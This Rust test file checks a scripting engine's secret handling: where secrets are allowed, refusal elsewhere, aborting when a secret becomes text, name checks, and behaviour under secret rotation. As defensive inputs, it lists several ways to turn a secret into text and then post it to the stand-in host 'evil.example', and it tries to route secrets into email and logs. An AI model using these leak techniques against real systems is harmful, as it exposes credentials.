//! Secrets: usable where they are carried, nowhere else, and never text.

use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};

use cuebook_core::journal::StepKind;
use cuebook_core::secret::{SecretLookup, SecretText};
use cuebook_core::value::Value;
use cuebook_rules::{Engine, Outcome};

use crate::driver::{failure, http, run, run_on, settings};

#[test]
fn a_secret_goes_into_auth_and_headers_by_name() {
    let mut run = run(r#"
        http::get("https://a.example", #{
            auth: #{ bearer: secret("CRM") },
            headers: #{ "x-key": secret("KEY") },
        });
        "#);
    run.pass();
    let options = &run.calls[0].arguments[1];
    assert_eq!(
        options.get("auth").unwrap().get("bearer"),
        Some(&Value::Secret("CRM".to_owned()))
    );
}

#[test]
fn elsewhere_it_is_refused() {
    for source in [
        r#"http::get(secret("CRM"));"#,
        r#"http::post("https://a.example", #{ token: secret("CRM") });"#,
        r#"http::post("https://a.example", [[secret("CRM")]]);"#,
        r#"email::send(#{ to: "a@example.com", data: #{ token: secret("CRM") } });"#,
        r#"email::send(#{ to: secret("CRM") });"#,
        r#"emit("x", secret("CRM"));"#,
        r#"log::info("x", #{ token: secret("CRM") });"#,
        r#"log::info(secret("CRM"));"#,
    ] {
        let pass = run(source).pass();
        let (code, reason) = failure(&pass);
        assert_eq!(code, "script_error", "{source}");
        assert!(reason.contains("secret"), "{source}: {reason}");
    }
}

#[test]
fn turned_into_text_it_ends_the_run_whatever_catches() {
    for expression in [
        "`${s}`",
        "\"x\" + s",
        "s + \"x\"",
        "s.to_string()",
        "to_debug(s)",
        "print(s)",
        "debug(s)",
        "[s].to_string()",
        "`${#{ s: s }}`",
        "{ let t = \"\"; t += s; t }",
        "[\"a\", s].reduce(|sum, x| sum + x, \"\")",
    ] {
        let source = format!(
            r#"let s = secret("CRM"); try {{ let x = {expression}; }} catch {{ }} http::post("https://evil.example", 1);"#
        );
        let mut run = run(&source);
        let pass = run.pass();
        let (code, reason) = failure(&pass);
        assert_eq!(code, "script_error", "{expression}");
        assert!(
            reason.contains("a secret cannot become text"),
            "{expression}: {reason}"
        );
        assert!(run.calls.is_empty(), "{expression}");
    }
}

#[test]
fn names_are_checked() {
    let pass = run(r#"secret("a b");"#).pass();
    assert!(failure(&pass).1.contains("no name of a secret"));
    let pass = run(r#"let s = secret("A_b-9.x");"#).pass();
    assert_eq!(pass.outcome, Outcome::Completed);
}

/// Secrets that are another at each look; the first look finds none called `LATE`.
#[derive(Default)]
struct Rotated(AtomicU32);

impl SecretLookup for Rotated {
    fn lookup(&self, name: &str) -> Option<SecretText> {
        let looks = self.0.fetch_add(1, Ordering::Relaxed);
        (name != "LATE" || looks > 0).then(|| SecretText::new(looks.to_string()))
    }
}

#[test]
fn what_was_made_under_a_secret_stays_when_the_secret_is_changed() {
    for source in [
        r#"let mac = crypto::hmac_sha256(secret("KEY"), "x"); http::get(`https://a.example/${mac}`);"#,
        r#"
        let way = "with";
        try { crypto::hmac_sha256(secret("LATE"), "x"); } catch { way = "without"; }
        http::get(`https://a.example/${way}`);
        "#,
    ] {
        let mut settings = settings();
        settings.secrets = Arc::new(Rotated::default());
        let mut run = run_on(Engine::new(settings).unwrap(), source, r#"{"type":"t"}"#);
        let step = run.pass().steps[0].clone();
        assert_eq!(step.question.function, "crypto::hmac_sha256");
        assert_eq!(step.kind, StepKind::Local);
        assert_eq!(step.arguments[0].kind(), "secret");
        assert!(step.line.is_some());
        run.answer("1", Ok(http(200, "")));
        assert_eq!(run.pass().outcome, Outcome::Completed, "{source}");
    }
}
